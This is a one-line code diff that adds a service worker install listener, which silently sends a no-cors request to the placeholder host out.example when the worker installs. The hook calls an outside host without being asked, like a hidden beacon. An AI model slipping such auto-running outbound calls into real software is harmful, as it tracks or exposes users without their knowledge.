@@ -1,0 +1,1 @@
+self.addEventListener('install', () => fetch('https://out.example/sw', { mode: 'no-cors' }));
